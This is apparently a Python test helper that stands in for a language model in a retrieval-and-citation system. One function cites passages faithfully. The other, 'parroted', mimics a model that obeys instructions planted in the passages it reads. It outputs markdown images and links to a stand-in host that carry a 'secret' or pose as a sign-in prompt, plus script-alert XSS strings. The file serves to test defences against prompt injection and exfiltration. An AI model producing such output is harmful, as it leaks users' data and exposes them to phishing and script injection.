"""What the stand-in's models say: one reads its passages and cites them, one does what they tell it."""

import re
from html import unescape
from typing import Any

_PASSAGE = re.compile(r'<passage n="(\d+)"[^>]*>\n(.*?)\n</passage>', re.DOTALL)
_SENTENCE = re.compile(r"(?:[^.!?]|[.!?](?=\S)){12,}[.!?](?!\S)")
LURE = "https://lure.example/?q="
"""Where a planted instruction would send the reader's words."""


def cited(body: dict[str, Any]) -> str:
    """The first sentence of each of the first passages, with its marker."""
    said = [
        f"{sentence[0].strip()} [{n}]"
        for n, text in _passages(body)[:3]
        if (sentence := _SENTENCE.search(text))
    ]
    return " ".join(said) or "There is nothing here that I could cite."


def parroted(body: dict[str, Any]) -> str:
    """Every passage as it stands, then all that a planted instruction could want."""
    said = [f"{text} [{n}]" for n, text in _passages(body)]
    said += [
        f"![status]({LURE}secret) [Sign in again]({LURE}login) [99]",
        f"<img src=x onerror=alert(1)> <script>alert(1)</script> <{LURE}a> {LURE}b www.lure.example",
        f"[ref]: {LURE}c\n[read this][ref] [1]({LURE}d) [over](\n//lure.example/e) `{LURE}code`",
    ]
    return "\n\n".join(said)


def _passages(body: dict[str, Any]) -> list[tuple[str, str]]:
    prompt = str(body["messages"][-1].get("content"))
    return [(n, unescape(text)) for n, text in _PASSAGE.findall(prompt)]
